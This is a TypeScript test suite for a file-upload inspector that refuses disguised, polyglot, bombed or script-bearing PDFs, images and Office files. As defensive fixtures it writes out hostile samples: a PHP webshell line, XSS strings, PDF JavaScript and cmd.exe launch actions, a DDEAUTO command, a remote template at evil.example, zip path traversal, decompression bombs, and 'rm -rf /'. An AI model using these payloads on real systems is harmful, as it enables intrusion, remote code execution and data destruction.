import { deflateRawSync, deflateSync } from 'node:zlib';
import { Document, Packer, Paragraph } from 'docx';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  docxParts,
  EICAR,
  jpegSegment,
  makeDocx,
  makeJpeg,
  makePdf,
  makePng,
  makeZip,
  type PdfObject,
  pngChunk,
} from '../../../test/files.ts';
import { drawSample } from '../../seed/sample-paper.ts';
import { inspectFile, type PaperKind } from './inspect.ts';
import { openTurns } from './turns.ts';

const ALL: PaperKind[] = ['pdf', 'jpeg', 'png', 'docx', 'xlsx'];
const latin = (text: string) => Buffer.from(text, 'latin1');
const inspect = (name: string, bytes: Uint8Array) =>
  inspectFile({ name, bytes }, { kinds: ALL, megabytes: 10 });

/** What is said of a file that is refused. */
async function whyNot(name: string, bytes: Uint8Array): Promise<string> {
  const said = await inspect(name, bytes).then(
    () => 'taken',
    (error) => `${error.code}: ${error.message}`,
  );
  expect(said).toMatch(/^(file_unreadable|file_infected|file_too_large): Tệp ".+" .+\.$/);
  return said;
}

describe('papers that are taken', () => {
  it.each([
    ['don.pdf', makePdf(), 'application/pdf'],
    ['anh.jpg', makeJpeg(), 'image/jpeg'],
    ['anh.JPEG', makeJpeg({ width: 300, height: 200 }), 'image/jpeg'],
    ['anh.png', makePng(), 'image/png'],
    ['to khai.docx', makeDocx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ])('%s', async (name, bytes, mediaType) => {
    expect(await inspect(name, bytes)).toMatchObject({ mediaType, bytes });
  });

  it('a PDF as this product draws it, and one with objects packed', async () => {
    expect(await inspect('mau.pdf', await drawSample('Giấy tờ mẫu'))).toMatchObject({ name: 'mau.pdf' });
    const packed = packedObjects('<</Type /Annot /Subtype /Link>>');
    expect(await inspect('goi.pdf', makePdf({ objects: [packed] }))).toMatchObject({ name: 'goi.pdf' });
  });

  it('Word and Excel files as other programs write them', async () => {
    const word = new Document({ sections: [{ children: [new Paragraph('Tờ khai')] }] });
    expect(await inspect('a.docx', await Packer.toBuffer(word))).toMatchObject({ name: 'a.docx' });
    const book = new ExcelJS.Workbook();
    book.addWorksheet('Danh sách').addRow(['Họ tên', 1]);
    const sheet = new Uint8Array(await book.xlsx.writeBuffer());
    expect(await inspect('a.xlsx', sheet)).toMatchObject({
      mediaType: expect.stringContaining('spreadsheetml'),
    });
  });

  it('a link to a page, which only a click follows', async () => {
    const rels =
      '<Relationships><Relationship Id="r" Type="http://x/relationships/hyperlink" Target="https://a.example" TargetMode="External"/></Relationships>';
    const file = makeDocx({ name: 'word/_rels/document.xml.rels', data: Buffer.from(rels) });
    expect(await inspect('a.docx', file)).toMatchObject({ name: 'a.docx' });
  });

  it('a photo without what the camera left behind it', async () => {
    const photo = makeJpeg();
    const film = Buffer.concat([Buffer.alloc(4), latin('ftypmp42'), Buffer.alloc(500, 7)]);
    for (const trailer of [
      makeJpeg(),
      film,
      Buffer.concat([Buffer.alloc(90, 3), latin('SEFT')]),
      Buffer.alloc(16),
    ])
      expect((await inspect('anh.jpg', Buffer.concat([photo, trailer]))).bytes).toEqual(photo);
  });
});

/** An object stream with one object, packed. */
function packedObjects(object: string, dictionary = '/Filter /FlateDecode'): PdfObject {
  const head = '9 0 ';
  return {
    dictionary: `/Type /ObjStm /N 1 /First ${head.length} ${dictionary}`,
    stream: deflateSync(latin(head + object)),
  };
}

describe('kinds that are not taken', () => {
  it.each([
    ['anh.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', /SVG/],
    ['anh.png', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', /SVG/],
    ['don.pdf', '<!DOCTYPE html><script>alert(1)</script>', /trang web/],
    ['don.pdf', '\xef\xbb\xbf  <html>', /trang web/],
    ['anh.gif', 'GIF89a\x01\0\x01\0\0\0\0;', /loại ảnh/],
    ['anh.gif', 'GIF89a/*\x01\0\0\0\0;*/=1;alert(1)//', /loại ảnh/],
    ['anh.jpg', 'RIFF\x24\0\0\0WEBPVP8 \x18\0\0\0', /loại ảnh/],
    ['anh.jpg', '\0\0\0\x18ftypheic\0\0\0\0mif1heic', /HEIC/],
    ['don.pdf', 'MZ\x90\0\x03\0\0\0', /chương trình/],
    ['don.doc', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', /Word, Excel đời cũ/],
    ['don.rar', 'Rar!\x1a\x07\x01\0', /nén/],
    ['ghi chu.txt', 'chỉ là chữ', /không phải loại tệp/],
    ['anh.jpg', '#!/bin/sh\nrm -rf /', /không phải loại tệp/],
    ['trong.pdf', '', /rỗng/],
  ])('%s holding %j', async (name, text, words) => {
    expect(await whyNot(name, latin(text))).toMatch(words);
  });

  it.each([
    ['anh.png', makeJpeg(), /mang đuôi \.png nhưng nội dung là ảnh JPEG/],
    ['don.pdf', makePng(), /mang đuôi \.pdf/],
    ['don.pdf.exe', makePdf(), /mang đuôi \.exe/],
    ['don\u202efdp.exe', makePdf(), /mang đuôi \.exe/],
    ['don.html', makePdf(), /mang đuôi \.html/],
    ['don.pdf', makeDocx(), /mang đuôi \.pdf nhưng nội dung là Word/],
    ['don.zip', makeDocx(), /mang đuôi \.zip/],
  ])('an ending that lies: %s', async (name, bytes, words) => {
    expect(await whyNot(name, bytes)).toMatch(words);
  });

  it('more than ten megabytes', async () => {
    expect(await whyNot('to.pdf', Buffer.alloc(10 * 1024 * 1024 + 1, '%PDF-1.7\n'))).toMatch(/lớn hơn 10 MB/);
  });
});

describe('two files in one', () => {
  const zip = makeZip([{ name: 'a.txt', data: Buffer.from('a') }]);
  const script = '<script>alert(document.domain)</script>';
  it.each([
    ['a PDF not at the first byte', 'a.pdf', Buffer.concat([latin('rác\n'), makePdf()])],
    ['HTML before a PDF', 'a.pdf', Buffer.concat([latin('<html><!--'), makePdf()])],
    ['HTML in a PDF', 'a.pdf', makePdf({ objects: [{ stream: latin(`<html>${script}</html>`) }] })],
    ['HTML after a PDF', 'a.pdf', Buffer.concat([makePdf(), latin(script)])],
    ['anything after a PDF', 'a.pdf', Buffer.concat([makePdf(), latin('thêm nữa')])],
    ['a zip after a PDF', 'a.pdf', Buffer.concat([makePdf(), zip])],
    ['a zip in a PDF', 'a.pdf', makePdf({ objects: [{ stream: zip }] })],
    [
      'a program in a PDF',
      'a.pdf',
      makePdf({ objects: [{ stream: latin('MZ This program cannot be run in DOS mode') }] }),
    ],
    ['a zip after a JPEG', 'a.jpg', Buffer.concat([makeJpeg(), zip])],
    ['a RAR after a PNG', 'a.png', Buffer.concat([makePng(), latin('Rar!\x1a\x07\x01\0')])],
    [
      'a zip behind a camera film',
      'a.jpg',
      Buffer.concat([makeJpeg(), Buffer.alloc(4), latin('ftypmp42'), zip]),
    ],
    ['PHP behind a JPEG', 'a.jpg', Buffer.concat([makeJpeg(), latin('<?php system($_GET[0]); ?>')])],
    ['text behind a JPEG', 'a.jpg', Buffer.concat([makeJpeg(), latin('hello')])],
    ['a PDF in a JPEG', 'a.jpg', makeJpeg({ segments: [jpegSegment(0xfe, makePdf())] })],
    ['HTML in a comment of a JPEG', 'a.jpg', makeJpeg({ segments: [jpegSegment(0xfe, latin(script))] })],
    [
      'a tag in it',
      'a.jpg',
      makeJpeg({ segments: [jpegSegment(0xfe, latin('<img src=x onerror=alert(1)>'))] }),
    ],
    ['HTML in the EXIF', 'a.jpg', makeJpeg({ segments: [jpegSegment(0xe1, latin(`Exif\0\0${script}`))] })],
    ['a script that is a JPEG', 'a.jpg', scriptJpeg()],
    [
      'HTML in a text of a PNG',
      'a.png',
      makePng({ chunks: [pngChunk('tEXt', latin(`Comment\0${script}`))] }),
    ],
    [
      'HTML in a packed text',
      'a.png',
      makePng({
        chunks: [pngChunk('zTXt', Buffer.concat([latin('Comment\0\0'), deflateSync(latin(script))]))],
      }),
    ],
    [
      'HTML in an international text',
      'a.png',
      makePng({
        chunks: [pngChunk('iTXt', Buffer.concat([latin('C\0\x01\0vi\0C\0'), deflateSync(latin(script))]))],
      }),
    ],
    ['anything after a PNG', 'a.png', Buffer.concat([makePng(), latin('x')])],
    ['something before a Word file', 'a.docx', Buffer.concat([latin(script), makeDocx()])],
    ['the same with its list put right', 'a.docx', makeZip(docxParts(), { before: script })],
    ['something after a Word file', 'a.docx', makeZip(docxParts(), { after: script })],
    ['a comment of a Word file', 'a.docx', makeZip(docxParts(), { comment: script })],
  ])('%s', async (_what, name, bytes) => {
    await whyNot(name, bytes);
  });
});

/** A JPEG whose first segment opens a comment of JavaScript: its length is the two signs. */
function scriptJpeg(): Buffer {
  const plain = makeJpeg();
  const head = Buffer.alloc(0x2f2a - 2);
  head.write('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1');
  const close = jpegSegment(0xfe, latin('*/=alert(1)/*'));
  return Buffer.concat([plain.subarray(0, 2), jpegSegment(0xe0, head), close, plain.subarray(20)]);
}

describe('a PDF with more than pages', () => {
  it.each([
    ['JavaScript', { catalog: '/OpenAction <</S /JavaScript /JS (app.alert(1))>>' }, /JavaScript/],
    [
      'its name spelt with numbers',
      { catalog: '/OpenAction <</S /J#61vaScr#69pt /J#53 (x)>>' },
      /JavaScript/,
    ],
    [
      'JavaScript in packed objects',
      { objects: [packedObjects('<</S /JavaScript /JS (x)>>')] },
      /JavaScript/,
    ],
    [
      'the same, spelt with numbers',
      { objects: [packedObjects('<</S /#4aavaScript /JS (x)>>')] },
      /JavaScript/,
    ],
    ['the same behind a comment', { objects: [packedObjects('% 1 2\n<</S /JavaScript>>')] }, /JavaScript/],
    [
      'objects packed in another way',
      { objects: [packedObjects('<<>>', '/Filter [/ASCIIHexDecode /FlateDecode]')] },
      /không kiểm tra được/,
    ],
    [
      'objects packed through a reference',
      { objects: [packedObjects('<<>>', '/Filter 5 0 R')] },
      /không kiểm tra được/,
    ],
    [
      'a dictionary too long to be looked at',
      {
        objects: [
          {
            ...packedObjects('', `/Filter /ASCIIHexDecode /X (${'x'.repeat(9000)})`),
            stream: latin('3920303c3c3e3e>'),
          },
        ],
      },
      /không kiểm tra được/,
    ],
    [
      'objects packed with a predictor',
      { objects: [packedObjects('<<>>', '/Filter /FlateDecode /DecodeParms <</Predictor 12>>')] },
      /không kiểm tra được/,
    ],
    [
      'objects that do not unpack',
      { objects: [{ ...packedObjects('<<>>'), stream: latin('x') }] },
      /không kiểm tra được/,
    ],
    ['a form that runs, by its key', { catalog: '/AcroForm <</XFA [(a) 5 0 R]>>' }, /biểu mẫu động/],
    ['a program to start', { catalog: '/OpenAction <</S /Launch /F (cmd.exe)>>' }, /mở chương trình/],
    [
      'a file within',
      {
        catalog: '/Names <</EmbeddedFiles 5 0 R>>',
        objects: [{ dictionary: '/Type /EmbeddedFile', stream: latin('x') }],
      },
      /đính kèm/,
    ],
    ['a password', { trailer: '/Encrypt 5 0 R' }, /mật khẩu/],
    [
      'a form that runs',
      {
        objects: [
          {
            stream: deflateSync(latin('<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">')),
            dictionary: '/Filter /FlateDecode',
          },
        ],
      },
      /biểu mẫu động/,
    ],
    [
      'a page that bursts',
      {
        objects: [
          { stream: deflateSync(Buffer.alloc(600 * 1024 * 1024)), dictionary: '/Filter /FlateDecode' },
        ],
      },
      /nở ra/,
    ],
    [
      'packed twice',
      { objects: [{ stream: latin('x'), dictionary: '/Filter [/FlateDecode /FlateDecode]' }] },
      /nở ra/,
    ],
    [
      'the test virus, packed',
      { objects: [{ stream: deflateSync(EICAR), dictionary: '/Filter /FlateDecode' }] },
      /mã độc/,
    ],
  ])('%s', async (_what, given, words) => {
    expect(await whyNot('a.pdf', makePdf(given))).toMatch(words);
  });
});

describe('zips that harm who opens them', () => {
  const zeros = Buffer.alloc(150 * 1024 * 1024);
  const part = (name: string, data: Buffer = Buffer.from('<a/>')) => ({ name, data });
  it.each([
    ['150 megabytes of nothing', makeDocx(part('word/big.xml', zeros))],
    ['a part that says it is small', makeDocx({ ...part('word/big.xml', zeros), size: 1000 })],
    ['a part of another size', makeDocx({ ...part('word/a.xml'), size: 3 })],
    ['a part with a wrong checksum', makeDocx({ ...part('word/a.xml'), crc: 1 })],
    [
      'a part that is cut',
      makeDocx({
        ...part('word/a.xml', Buffer.alloc(5000, 'ab')),
        packed: deflateRawSync(Buffer.alloc(5000, 'ab')).subarray(0, 9),
      }),
    ],
    [
      'one part many times over',
      makeDocx({ ...part('word/b.xml'), over: 2, localName: 'word/document.xml' }),
    ],
    ['a zip in it', makeDocx(part('word/a.bin', makeZip([part('x')])))],
    ['a zip by its name', makeDocx(part('word/embeddings/a.xlsx', makeZip([part('x')])))],
    [
      'three thousand parts',
      makeZip([...docxParts(), ...Array.from({ length: 3000 }, (_, at) => part(`word/${at}.xml`))]),
    ],
    ['a part above its folder', makeDocx(part('../../etc/cron.d/a.xml'))],
    ['a part at the root', makeDocx(part('/etc/passwd.xml'))],
    ['a part on a drive', makeDocx(part('C:\\windows\\a.xml'))],
    ['a part with NUL in its name', makeDocx(part('word/a\0.xml'))],
    ['a part twice', makeDocx(part('word/document.xml'))],
    ['a part with two names', makeDocx({ ...part('word/a.xml'), localName: 'word/b.xml' })],
    ['a link', makeDocx({ ...part('word/a.xml', Buffer.from('/etc/passwd')), unixMode: 0o120777 })],
    ['a locked part', makeDocx({ ...part('word/a.xml'), flags: 1 })],
    ['a program', makeDocx(part('word/run.exe'))],
    ['a page', makeDocx(part('index.html'))],
    ['a macro', makeDocx(part('word/vbaProject.bin'))],
    [
      'an old file as an object',
      makeDocx(part('word/oleObject1.bin', latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'))),
    ],
    ['an XML bomb', makeDocx(part('word/a.xml', Buffer.from('<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>')))],
    [
      'a template from elsewhere',
      makeDocx(
        part(
          'word/_rels/settings.xml.rels',
          Buffer.from(
            '<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
          ),
        ),
      ),
    ],
    [
      'a command in a field',
      makeZip(
        docxParts(
          'x',
          '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText></w:r></w:p>',
        ),
      ),
    ],
    ['the test virus', makeDocx(part('word/a.xml', EICAR))],
    ['no end', makeDocx().subarray(0, -30)],
    ['a plain zip', makeZip([part('don.pdf', makePdf())])],
  ])('%s', async (_what, bytes) => {
    await whyNot('a.docx', bytes);
  });

  it('a plain zip is told to be sent file by file', async () => {
    expect(await whyNot('a.zip', makeZip([part('don.pdf', makePdf())]))).toMatch(/từng giấy tờ riêng/);
  });
});

describe('pictures that burst, or are not whole', () => {
  it.each([
    ['a JPEG of a billion dots', 'a.jpg', makeJpeg({ said: { width: 60000, height: 60000 } }), /quá lớn/],
    ['a PNG of a billion dots', 'a.png', makePng({ said: { width: 50000, height: 50000 } }), /quá lớn/],
    ['a PNG of nothing', 'a.png', makePng({ said: { width: 0, height: 4 } }), /rỗng/],
    [
      'a PNG with less behind it than it says',
      'a.png',
      makePng({ said: { width: 400, height: 400 } }),
      /hỏng/,
    ],
    [
      'a PNG with far more',
      'a.png',
      makePng({ width: 3000, height: 3000, said: { width: 2, height: 2 } }),
      /nở ra/,
    ],
    [
      'a packed text of a PNG that bursts',
      'a.png',
      makePng({
        chunks: [pngChunk('zTXt', Buffer.concat([latin('C\0\0'), deflateSync(Buffer.alloc(50_000_000))]))],
      }),
      /nở ra/,
    ],
    ['half a JPEG', 'a.jpg', makeJpeg({ width: 500, height: 500 }).subarray(0, 200), /cắt cụt/],
    ['the head of a JPEG', 'a.jpg', makeJpeg().subarray(0, 20), /cắt cụt/],
    ['half a PNG', 'a.png', makePng().subarray(0, 50), /cắt cụt/],
    ['a PNG with one bit turned', 'a.png', turned(makePng(), 45), /hỏng/],
    ['half a PDF', 'a.pdf', makePdf().subarray(0, 300), /cắt cụt/],
    ['a PDF that is only said to be one', 'a.pdf', latin('%PDF-1.7\n%%EOF\n'), /hỏng/],
  ])('%s', async (_what, name, bytes, words) => {
    expect(await whyNot(name, bytes)).toMatch(words);
  });
});

function turned(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at]! ^= 1;
  return copy;
}

describe('files made to be slow to look at', () => {
  const MB10 = 10 * 1024 * 1024 - 2000;
  const full = (piece: string) => latin(piece.repeat(Math.floor(MB10 / piece.length)));
  const inPdf = (piece: string) => makePdf({ objects: [{ stream: full(piece) }] });
  // Each would take minutes if looking went over the same bytes again and again.
  it.each([
    ['tags that never end', 'a.pdf', inPdf('<img ')],
    ['tags of a drawing', 'a.pdf', inPdf('<svg x')],
    ['streams that never end', 'a.pdf', inPdf('stream\n\x78\x9c')],
    ['filters', 'a.pdf', inPdf('/Fl /')],
    ['letters spelt with numbers', 'a.pdf', inPdf('#41#42')],
    ['spaces', 'a.pdf', inPdf('1 \0 \t')],
    ['heads of zips', 'a.pdf', inPdf('PK\x03\x04')],
    [
      'chunks of nothing',
      'a.png',
      makePng({ chunks: Array.from({ length: 30_000 }, () => pngChunk('IDAT', Buffer.alloc(0))) }),
    ],
    ['markers', 'a.jpg', makeJpeg({ segments: [jpegSegment(0xfe, full('\xff\0').subarray(0, 65_000))] })],
    ['links that never end', 'a.docx', makeDocx({ name: 'word/_rels/a.rels', data: full('<Relationship ') })],
    ['fields that never end', 'a.docx', makeDocx({ name: 'word/a.xml', data: full('<w:instrText ') })],
    ['cells that never end', 'a.docx', makeDocx({ name: 'word/a.xml', data: full('<f>x') })],
  ])('%s', async (_what, name, bytes) => {
    await inspect(name, bytes).catch((error) => expect(error.code).toBe('file_unreadable'));
  });

  it('a name of a megabyte', async () => {
    const name = `${'. x'.repeat(100_000)}${'.'.repeat(500_000)}${' '.repeat(500_000)}.pdf`;
    expect((await inspect(name, makePdf())).name.length).toBeLessThan(130);
  });
});

describe('the test virus', () => {
  it('is known without a scanner, whatever it calls itself', async () => {
    for (const name of ['eicar.com', 'don.pdf', 'anh.jpg'])
      expect(await whyNot(name, EICAR)).toMatch(/^file_infected/);
    expect(await whyNot('a.jpg', makeJpeg({ segments: [jpegSegment(0xfe, EICAR)] }))).toMatch(
      /^file_infected/,
    );
    expect(await whyNot('a.docx', makeDocx({ name: 'word/a.xml', data: EICAR }))).toMatch(/^file_infected/);
  });
});

describe('names', () => {
  it.each([
    ['../../etc/passwd.pdf', 'passwd.pdf'],
    ['C:\\Users\\A\\Đơn xin.PDF', 'Đơn xin.pdf'],
    ['/etc/cron.d/', 'tep-dinh-kem.pdf'],
    ['a\u202egnp.pdf', 'agnp.pdf'],
    ['a\0b\r\nc\u0007.pdf', 'abc.pdf'],
    ['\ufeff\u200bđơn.pdf', 'đơn.pdf'],
    ['', 'tep-dinh-kem.pdf'],
    ['...', 'tep-dinh-kem.pdf'],
    ['CON.pdf', '_CON.pdf'],
    ['nul', '_nul.pdf'],
    ['com1.tar.pdf', '_com1.tar.pdf'],
    ['a<b>"c|d?*.pdf', 'a-b--c-d--.pdf'],
    ['giấy khai sinh số 12.2024', 'giấy khai sinh số 12.2024.pdf'],
    ['  đơn   xin . pdf', 'đơn xin . pdf.pdf'],
    ['e\u0302.pdf', 'ê.pdf'],
    ['\ud800x.pdf', 'x.pdf'],
    [`${'ă'.repeat(300)}.pdf`, `${'ă'.repeat(120)}.pdf`],
    [`${'👨‍👩‍👧'.repeat(100)}.pdf`, expect.stringMatching(/^.{100,240}\.pdf$/)],
  ])('%j is kept as %j', async (given, name) => {
    expect((await inspect(given, makePdf())).name).toEqual(name);
  });

  it('a name in a refusal is made safe too', async () => {
    const said = await whyNot(`../${'x'.repeat(500)}\u202e\0<b>.gif`, latin('GIF89a'));
    expect(said.length).toBeLessThan(400);
    expect(said).not.toMatch(/\.\.\/|<b>|\u202e|\0/);
  });
});

describe('any bytes', () => {
  it('turned, cut or added anywhere are taken or refused, and never a fault of ours', async () => {
    const files = [
      ['a.pdf', makePdf({ objects: [packedObjects('<<>>')] })] as const,
      ['a.png', makePng()] as const,
    ];
    const all = fc.constantFrom(...files, ['a.jpg', makeJpeg()] as const, ['a.docx', makeDocx()] as const);
    const change = fc.record({ at: fc.nat(5000), bytes: fc.uint8Array({ maxLength: 8 }), cut: fc.nat(8) });
    await fc.assert(
      fc.asyncProperty(
        all,
        fc.array(change, { minLength: 1, maxLength: 4 }),
        async ([name, bytes], changes) => {
          const said = await inspect(name, changes.reduce(apply, bytes)).catch((error) => error);
          if (said instanceof Error) expect(said).toMatchObject({ code: 'file_unreadable' });
        },
      ),
      { numRuns: 400 },
    );
  });
});

function apply(bytes: Buffer, change: { at: number; bytes: Uint8Array; cut: number }): Buffer {
  const at = change.at % (bytes.length + 1);
  return Buffer.concat([bytes.subarray(0, at), change.bytes, bytes.subarray(at + change.cut)]);
}

describe('turns', () => {
  it('let two in at once, the others after them in order, whatever becomes of each', async () => {
    const inTurn = openTurns(2);
    const [gates, seen] = [Array.from({ length: 4 }, () => Promise.withResolvers<void>()), [] as number[]];
    const all = gates.map((gate, at) =>
      inTurn(async () => {
        seen.push(at);
        await gate.promise;
      }),
    );
    const settled = Promise.allSettled(all);
    await Promise.resolve();
    expect(seen).toEqual([0, 1]);
    gates[1]!.reject(new Error('refused'));
    await all[1]!.catch(() => undefined);
    expect(seen).toEqual([0, 1, 2]);
    for (const gate of gates) gate.resolve();
    expect((await settled).map((each) => each.status)).toEqual([
      'fulfilled',
      'rejected',
      'fulfilled',
      'fulfilled',
    ]);
    expect(seen).toEqual([0, 1, 2, 3]);
  });
});
